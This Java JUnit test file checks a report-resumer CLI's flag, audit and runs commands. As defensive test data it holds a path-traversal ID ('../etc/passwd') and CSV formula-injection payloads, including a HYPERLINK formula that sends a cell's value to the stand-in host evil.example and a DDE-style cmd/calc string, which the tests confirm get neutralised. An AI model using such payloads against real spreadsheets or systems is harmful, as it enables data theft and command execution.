package com.reportresumer.cli;

import static com.reportresumer.testsupport.PartnerCenterStandIn.okJson;
import static com.reportresumer.testsupport.PartnerCenterStandIn.status;
import static org.assertj.core.api.Assertions.assertThat;

import com.reportresumer.testsupport.CliRun;
import com.reportresumer.testsupport.ForkedApp;
import com.reportresumer.testsupport.PartnerCenterStandIn;
import com.reportresumer.testsupport.ResumerEnvironment;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.MappingIterator;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

/** flag, audit, runs and rerun-failed against a real PostgreSQL, their formats parsed back, and their errors. */
class OpsCommandsTest {

    @RegisterExtension
    final ResumerEnvironment env = ResumerEnvironment.forCommands();

    @Test
    void flagAddsValidIdsOnceAndListsMalformedOnes() {
        String a = UUID.randomUUID().toString(), b = UUID.randomUUID().toString();

        CliRun first = env.cli("flag", a, b.toUpperCase(), "../etc/passwd", "--reason", "incident 42", "--by", "alice");
        CliRun again = env.cli("flag", a);

        assertThat(first.exitCode()).as(first.toString()).isEqualTo(2);
        assertThat(first.out()).contains("2 added, 0 already pending, 1 malformed").contains("../etc/passwd");
        // exit 2 says why in one line on standard error, as every exit 2 does
        assertThat(first.err().lines()).as(first.toString()).singleElement().asString().isEqualTo("report-resumer: "
                + "1 of the IDs is malformed (not a UUID: listed above) and was not flagged; the others were");
        assertThat(again.exitCode()).as(again.toString()).isZero();
        assertThat(again.out()).contains("0 added, 1 already pending, 0 malformed");
        assertThat(env.requests().query("SELECT report_id, requested_by, reason, status FROM resume_request ORDER BY id"))
                .containsExactly(
                        Map.of("report_id", a, "requested_by", "alice", "reason", "incident 42", "status", "PENDING"),
                        Map.of("report_id", b, "requested_by", "alice", "reason", "incident 42", "status", "PENDING"));
    }

    @Test
    void flagReadsPlainFilesWithCommentsAndCsvFilesWithAReportIdColumn(@TempDir Path dir) throws Exception {
        String a = UUID.randomUUID().toString(), b = UUID.randomUUID().toString(), c = UUID.randomUUID().toString();
        Path plain = Files.writeString(dir.resolve("ids.txt"), "# paused during incident 42\n" + a + "\n\n  " + b
                + "  \n# end\n");
        Path csv = Files.writeString(dir.resolve("ids.csv"), "name,report_id\n\"Orders, daily\"," + c
                + "\nCustomers," + a + "\n");

        CliRun fromPlain = env.cli("flag", "--file", plain.toString());
        CliRun fromCsv = env.cli("flag", "--file", csv.toString());

        assertThat(fromPlain.out()).as(fromPlain.toString()).contains("2 added, 0 already pending, 0 malformed");
        assertThat(fromCsv.out()).as(fromCsv.toString()).contains("1 added, 1 already pending, 0 malformed");
        assertThat(env.requests().count("SELECT count(*) FROM resume_request")).isEqualTo(3);
        assertThat(env.cli("flag", "--file", dir.resolve("missing.txt").toString()).exitCode()).isEqualTo(2);
    }

    @Test
    void flagAllPausedAsksTheApiAndFlagsOnlyPausedReports() {
        String paused1 = UUID.randomUUID().toString(), paused2 = UUID.randomUUID().toString();
        // the listing fails transiently once, and is asked again
        env.api().script().answerList(status(503, "busy"), okJson("""
                {"value":[{"reportId":"%s","reportStatus":"Paused"},{"reportId":"%s","reportStatus":"Active"},
                          {"reportId":"%s","reportStatus":"paused"},{"reportId":"%s","reportStatus":"Inactive"}],
                 "totalCount":4,"message":"ok","statusCode":200,"nextLink":null,"dataRedacted":false}"""
                .formatted(paused1, UUID.randomUUID(), paused2, UUID.randomUUID())));

        CliRun result = env.cli("flag", "--all-paused");
        assertThat(env.api().allUrls().stream().filter(u -> u.endsWith("/ScheduledReport"))).hasSize(2);

        assertThat(result.exitCode()).as(result.toString()).isZero();
        assertThat(result.out()).contains("2 added");
        assertThat(env.requests().query("SELECT report_id FROM resume_request ORDER BY id"))
                .extracting(r -> r.get("report_id")).containsExactly(paused1, paused2);
    }

    @Test
    void flagAllPausedFollowsNextLinkAgainstTheConfiguredApiOnly() {
        String first = UUID.randomUUID().toString(), second = UUID.randomUUID().toString();
        env.api().script().answerList(okJson("""
                {"value":[{"reportId":"%s","reportStatus":"Paused"}],"totalCount":1,
                 "nextLink":"https://elsewhere.example.com/insights/v1/mpn/ScheduledReport?continuationToken=p%%2B2&top=1"}"""
                .formatted(first)));
        env.api().script().answerListWhere("continuationToken", "p+2", okJson("""
                {"value":[{"reportId":"%s","reportStatus":"Paused"}],"totalCount":1,"nextLink":null}"""
                .formatted(second)));

        CliRun result = env.cli("flag", "--all-paused");

        assertThat(result.exitCode()).as(result.toString()).isZero();
        assertThat(result.out()).contains("2 added");
        assertThat(env.api().allUrls().stream().filter(u -> u.contains("/ScheduledReport"))).hasSize(2);
    }

    @Test
    void flagAllPausedFlagsEachPageAsItArrives() {
        String first = UUID.randomUUID().toString();
        env.api().script().answerList(okJson("""
                {"value":[{"reportId":"%s","reportStatus":"Paused"},{"reportId":"%s","reportStatus":"Active"}],
                 "nextLink":"https://api.partnercenter.microsoft.com/insights/v1/mpn/ScheduledReport?continuationToken=p2"}"""
                .formatted(first, UUID.randomUUID())));
        env.api().script().answerListWhere("continuationToken", "p2", status(503, "busy"));

        CliRun result = env.cli("flag", "--all-paused");

        // the first page was flagged when it arrived, before the second one was asked for
        assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
        assertThat(result.err()).contains("page 2").contains("1 paused reports").contains("HTTP 503: busy");
        assertThat(env.requests().query("SELECT report_id, status FROM resume_request"))
                .containsExactly(Map.of("report_id", first, "status", "PENDING"));
        assertThat(env.api().allUrls().stream().filter(u -> u.contains("continuationToken=p2"))).hasSize(2);
    }

    @Test
    void flagStreamsAFileOf200000IdsThroughASmallHeap(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("ids-200000.txt");
        List<String> pending = new ArrayList<>();
        try (var out = Files.newBufferedWriter(file)) {
            out.write("# 200,000 reports, 5,000 of them twice, 10 already pending, 3 malformed\n");
            for (int i = 0; i < 200_000; i++) {
                String id = UUID.randomUUID().toString();
                out.write(id + "\n");
                if (i % 40 == 0) {
                    out.write("  " + id.toUpperCase() + "\n\n"); // the same report again
                }
                if (i % 20_000 == 7) {
                    pending.add(id);
                }
                if (i % 70_000 == 3) {
                    out.write("not-a-report-" + i + "\n");
                }
            }
        }
        env.requests().flag(pending.toArray(String[]::new));
        List<String> args = new ArrayList<>(List.of("--file", file.toString(), "--by", "bulk"));
        args.addAll(List.of(env.db().springArgs()));

        // the file is 7.6 MB: as a list of IDs, a set of UUIDs and one array parameter it would not fit in 64 MB
        ForkedApp app = ForkedApp.start(List.of("-Xmx64m"), "flag", args);

        boolean ended = app.process().waitFor(120, TimeUnit.SECONDS);
        if (!ended) {
            app.process().destroyForcibly().waitFor();
        }
        assertThat(ended).as("ended within 2 minutes: %s", app.err()).isTrue();
        assertThat(app.process().exitValue()).as(app.err()).isEqualTo(2);
        assertThat(app.out()).startsWith("199990 added, 5010 already pending, 3 malformed")
                .contains("not-a-report-3", "not-a-report-70003", "not-a-report-140003");
        assertThat(env.requests().count("SELECT count(*) FROM resume_request WHERE status = 'PENDING'"))
                .isEqualTo(200_000);
        assertThat(env.requests().count("SELECT count(*) FROM resume_request WHERE requested_by = 'bulk'"))
                .isEqualTo(199_990);
    }

    @Test
    void auditRunsAndRerunFailedTellOpsWhatHappened() throws Exception {
        UUID good = UUID.randomUUID(), down = UUID.randomUUID(), gone = UUID.randomUUID();
        env.api().answers(down, status(503, "Service unavailable")).answers(gone, status(404, "Report not found"));
        env.requests().flag(good.toString(), down.toString(), gone.toString(), "bad\u0007id");
        assertThat(env.cli("run").exitCode()).isEqualTo(3);
        env.api().answers(down, PartnerCenterStandIn.resumed());

        CliRun rerun = env.cli("rerun-failed");

        assertThat(rerun.exitCode()).as(rerun.toString()).isZero();
        assertThat(rerun.out()).contains("Flagged 1 FAILED report again").contains("1 request processed");

        CliRun csv = env.cli("audit", "--format", "csv");
        assertThat(csv.exitCode()).as(csv.toString()).isZero();
        CsvMapper csvMapper = new CsvMapper();
        List<Map<String, String>> rows;
        try (MappingIterator<Map<String, String>> it = csvMapper.readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv.out())) {
            rows = it.readAll();
        }
        assertThat(rows).hasSize(5);
        assertThat(rows.get(0).keySet()).startsWith("id", "created_at", "job_execution_id", "request_id", "report_id",
                "outcome");
        assertThat(rows).extracting(r -> r.get("outcome"))
                .containsExactlyInAnyOrder("RESUMED", "FAILED", "NOT_FOUND", "INVALID_ID", "RESUMED");

        CliRun json = env.cli("audit", "--report", down.toString(), "--format", "json");
        JsonNode history = JsonMapper.builder().build().readTree(json.out());
        assertThat(history.isArray()).isTrue();
        assertThat(history.size()).isEqualTo(2);
        assertThat(history.get(0).get("outcome").asString()).isEqualTo("FAILED");
        assertThat(history.get(0).get("attempts").asInt()).isEqualTo(2);
        assertThat(history.get(1).get("outcome").asString()).isEqualTo("RESUMED");
        assertThat(history.get(1).get("job_execution_id").asLong()).isEqualTo(2);
        assertThat(OffsetDateTime.parse(history.get(0).get("created_at").asString())).isNotNull();

        CliRun failedOnly = env.cli("audit", "--outcome", "failed", "--outcome", "NOT_FOUND", "--since", "1h");
        assertThat(failedOnly.out()).contains(down.toString(), gone.toString()).doesNotContain(good.toString());
        assertThat(failedOnly.out().lines().findFirst().orElse("")).startsWith("TIME (UTC)");
        // not a terminal: the message is whole, whatever its length
        assertThat(failedOnly.out()).contains("still failing after 2 tries: HTTP 503: Service unavailable");
        assertThat(failedOnly.out()).doesNotContain("INFO").doesNotContain("\u0007");

        // what is failing now: down failed and was resumed since; gone is still NOT_FOUND
        CliRun now = env.cli("audit", "--latest", "--outcome", "FAILED", "--outcome", "NOT_FOUND", "--since", "1h");
        assertThat(now.exitCode()).as(now.toString()).isZero();
        assertThat(now.out()).contains(gone.toString()).doesNotContain(down.toString()).contains("1 row\n");
        CliRun latest = env.cli("audit", "--latest", "--report", down.toString().toUpperCase(), "--format", "json");
        JsonNode latestOfDown = JsonMapper.builder().build().readTree(latest.out());
        assertThat(latestOfDown.size()).isEqualTo(1);
        assertThat(latestOfDown.get(0).get("outcome").asString()).isEqualTo("RESUMED");
        assertThat(env.cli("audit", "--until", "2020-01-01").out()).contains("0 rows");

        // a search the limit cut says so, in the table's last line, or on standard error beside CSV or JSON
        long audited = env.requests().count("SELECT count(*) FROM resume_audit");
        CliRun cut = env.cli("audit", "--limit", "2");
        assertThat(cut.out()).endsWith("2 rows, the latest: more match (--limit 2); raise it or narrow the search\n");
        CliRun cutCsv = env.cli("audit", "--limit", "2", "--format", "csv");
        assertThat(cutCsv.out().lines()).hasSize(3); // the header and two rows
        assertThat(cutCsv.err()).isEqualTo("report-resumer: the latest 2 rows written: more match (--limit 2); "
                + "raise it or narrow the search\n");
        CliRun whole = env.cli("audit", "--limit", Long.toString(audited), "--format", "json");
        assertThat(whole.err()).isEmpty();
        assertThat(JsonMapper.builder().build().readTree(whole.out()).size()).isEqualTo(audited);
        assertThat(env.cli("audit", "--limit", Long.toString(audited)).out()).endsWith(audited + " rows\n");

        CliRun runs = env.cli("runs", "--format", "json");
        JsonNode runList = JsonMapper.builder().build().readTree(runs.out());
        assertThat(runList.size()).isEqualTo(2);
        assertThat(runList.get(0).get("job_execution_id").asLong()).isEqualTo(2);
        assertThat(runList.get(1).get("failed").asLong()).isEqualTo(1);
        assertThat(runList.get(1).get("not_found").asLong()).isEqualTo(1);
        assertThat(runList.get(1).get("status").asString()).isEqualTo("COMPLETED");
        CliRun table = env.cli("runs");
        assertThat(table.out()).contains("RESUMED", "FAILED").contains("COMPLETED");
    }

    @Test
    void csvCellsAFlaggerControlsNeverBecomeSpreadsheetFormulas() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
        List<String> hostile = List.of(formula, "+1+2", "-3-4", "@SUM(A1)", "\tx", "\ry");
        UUID refusing = UUID.randomUUID();
        env.api().answers(refusing, status(400, "@SUM(1+1)*cmd|' /C calc'!A0"));
        env.requests().flag(hostile.toArray(String[]::new));
        env.requests().flag(refusing.toString());
        assertThat(env.cli("run").exitCode()).isEqualTo(3);

        List<Map<String, String>> audit = parseCsv(env.cli("audit", "--format", "csv"));
        List<Map<String, String>> runs = parseCsv(env.cli("runs", "--format", "csv"));

        assertThat(audit).extracting(r -> r.get("report_id"))
                .containsAll(hostile.stream().map(id -> "'" + id).toList());
        assertThat(audit).filteredOn(r -> r.get("report_id").equals(refusing.toString()))
                .extracting(r -> r.get("message")).containsExactly("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(runs).hasSize(1);
        for (Map<String, String> row : concat(audit, runs)) {
            assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                    .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
        }
    }

    private static List<Map<String, String>> parseCsv(CliRun result) throws Exception {
        assertThat(result.exitCode()).as(result.toString()).isZero();
        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(result.out())) {
            return it.readAll();
        }
    }

    private static List<Map<String, String>> concat(List<Map<String, String>> a, List<Map<String, String>> b) {
        List<Map<String, String>> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    @Test
    void badFiltersAreOneLineAndExit2() {
        assertOneLineUsage(env.cli("audit", "--outcome", "BOGUS"), "BOGUS");
        assertOneLineUsage(env.cli("audit", "--since", "yesterday-ish"), "--since");
        assertOneLineUsage(env.cli("audit", "--run", "999"), "no execution 999");
        assertOneLineUsage(env.cli("rerun-failed", "--run", "999"), "no execution 999");
        assertOneLineUsage(env.cli("runs", "--limit", "0"), "--limit");
    }

    private static void assertOneLineUsage(CliRun result, String mention) {
        assertThat(result.exitCode()).as(result.toString()).isEqualTo(2);
        assertThat(result.err()).contains(mention);
        assertThat(result.out()).isEmpty();
    }
}
